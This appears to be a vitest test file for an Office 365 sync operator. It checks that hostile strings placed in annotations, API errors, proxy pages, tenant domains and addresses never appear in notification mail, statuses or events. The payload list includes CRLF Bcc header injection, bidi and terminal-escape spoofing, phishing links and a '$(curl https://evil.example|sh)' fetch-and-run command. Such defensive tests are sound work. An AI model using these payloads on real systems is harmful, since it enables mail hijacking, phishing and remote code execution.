/** Words that are no words but payloads, at each place where somebody outside may put some: no mail, status or event says them. */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Catcher, startCatcher } from "../../../dev/smtp/index.ts";
import { API_VERSION } from "../../../src/api/group.ts";
import { request } from "../../support/api.ts";
import { createRandom } from "../../support/random.ts";
import { createShiftClock } from "../../support/shift-clock.ts";
import { createWorld, type World } from "../../support/world.ts";

const HOUR_MS = 3_600_000;
const WORDS: readonly (readonly [what: string, word: string])[] = [
  ["a line of a header", "x\r\nBcc: evil@evil.example\r\n\r\nevil"],
  ["a line of a header behind a line separator of Unicode", "x\u2028Bcc: evil@evil.example"],
  ["an encoded line of a header", "=?utf-8?q?x=0d=0aBcc:_evil@evil.example?="],
  ["a link", "please confirm at https://evil.example/login"],
  ["a link in HTML", '<a href="https://evil.example">here</a>'],
  ["text that runs backwards", "\u202eevil.gpj\u2066"],
  ["a command", "$(curl https://evil.example|sh)"],
  ["colours of a terminal", "\u001b[31mevil\u001b]8;;https://evil.example\u0007"],
];
/** Separators of lines, and what changes the direction of text. */
const LIES = /evil|[\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
const TURNS = /[\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

type Undo = () => unknown;
interface Place {
  readonly name: string;
  /** A report names what was added, letter by letter: in its body, as text. */
  readonly isReported?: boolean;
  /** Puts the word there; answers what takes it away again. What the API server refuses is nowhere. */
  readonly put: (world: World, word: string) => Promise<Undo | undefined> | Undo;
}
const asError = (word: string) =>
  JSON.stringify({ error: { code: word, message: word, details: [{ message: word }] } });
const refused = (): undefined => undefined;

const PLACES: readonly Place[] = [
  { name: "a token", put: (world, word) => world.annotate("test-sync", word).then(() => undefined, refused) },
  { name: "an approval", put: (world, word) => world.annotate("approve", word).then(() => undefined, refused) },
  {
    name: "the field manager of a request",
    async put(world, word) {
      const path = `/apis/${API_VERSION}/namespaces/${world.namespace}/o365syncs/example-com`;
      const annotations = { "o365sync.dev/test-sync": `asked-${WORDS.findIndex(([, each]) => each === word)}` };
      const query = `?fieldManager=${encodeURIComponent(word)}`;
      await request("PATCH", path + query, { metadata: { annotations } }, "application/merge-patch+json");
      return undefined;
    },
  },
  {
    name: "an error of Graph",
    put: ({ tenant }, word) =>
      tenant.fault({ on: "users", times: 1, effect: { kind: "answer", status: 400, body: asError(word) } }),
  },
  {
    name: "an error of Entra",
    put({ tenant }, word) {
      tenant.expireTokens();
      const body = JSON.stringify({ error: word, error_description: word, error_codes: [word], error_uri: word });
      return tenant.fault({ on: "token", times: 1, effect: { kind: "answer", status: 400, body } });
    },
  },
  {
    name: "a page of a proxy",
    put: ({ tenant }, word) =>
      tenant.fault({
        on: "users",
        times: 1,
        effect: { kind: "answer", status: 407, headers: { "Content-Type": "text/html" }, body: word },
      }),
  },
  {
    name: "a type of a body",
    put: ({ tenant }, word) =>
      tenant.fault({
        on: "users",
        times: 1,
        effect: {
          kind: "answer",
          status: 200,
          headers: { "Content-Type": word.replace(/[^ -~]/g, "") },
          body: word,
        },
      }),
  },
  {
    name: "the domains of a tenant",
    put: ({ tenant }, word) =>
      tenant.fault({
        on: "organization",
        effect: {
          kind: "answer",
          status: 200,
          body: JSON.stringify({ value: [{ verifiedDomains: [{ name: word }] }] }),
        },
      }),
  },
  {
    name: "an address",
    isReported: true,
    put({ tenant: { company } }, word) {
      const { id } = company.hire("new@example.com", [`${word}@example.com`]);
      return () => company.remove(id);
    },
  },
  {
    name: "a pattern",
    put: (world, word) =>
      world
        .patch("o365syncs", "example-com", { spec: { excludeRecords: [word.replaceAll(/\s/g, "")] } })
        .then(() => () => world.patch("o365syncs", "example-com", { spec: { excludeRecords: null } }), refused),
  },
];

describe.each(PLACES)("Words in $name", ({ put, isReported }) => {
  const clock = createShiftClock();
  let catcher: Catcher;
  let world: World;
  beforeAll(async () => {
    catcher = await startCatcher();
    const flags = [
      "--smtp-host=127.0.0.1",
      `--smtp-port=${catcher.port}`,
      "--smtp-from=sync@example.com",
      "--smtp-timeout=1",
      "--manual-runs-per-hour=1000",
    ];
    world = await createWorld({ deps: { clock, random: createRandom(19) }, flags });
    await world.install({ notifications: { enabled: true, recipients: ["ops@example.com"] } });
    await world.ask("sync", "first");
  });
  afterAll(async () => {
    await world.close();
    await catcher.close();
  });

  it.each(WORDS)("are shown to nobody, and mail goes to nobody else: %s", async (_, word) => {
    clock.shift(HOUR_MS);
    const before = catcher.mails.length;
    const undo = await put(world, word);
    const token = `after-${WORDS.findIndex(([, each]) => each === word)}`;
    // What a test asked for is answered before.
    const { status } = await world.ask("testConnection", token).then(() => world.ask("sync", token));
    expect(status?.requests?.sync?.state).toMatch(/Succeeded|Failed/);
    await undo?.();
    await world.until(
      () => world.sync(),
      (sync) => (sync.status?.notifications?.pending ?? []).length === 0,
    );
    const mails = catcher.mails.slice(before);
    expect(mails.length).toBeGreaterThan(0);
    for (const { to, raw, email } of mails) {
      expect(to).toEqual(["ops@example.com"]);
      const header = raw.slice(0, raw.indexOf("\r\n\r\n"));
      expect([header, email.subject].filter((text) => LIES.test(text ?? ""))).toEqual([]);
      const lies = isReported === true ? TURNS : LIES;
      expect([raw, email.text, email.html].filter((text) => lies.test(text ?? ""))).toEqual([]);
      expect(email.html).not.toMatch(/href="[^"]*evil/);
    }
    const shown = [(await world.sync()).status, (await world.domain()).status, await world.events()];
    expect(shown.filter((each) => LIES.test(JSON.stringify(each)))).toEqual([]);
  });
});
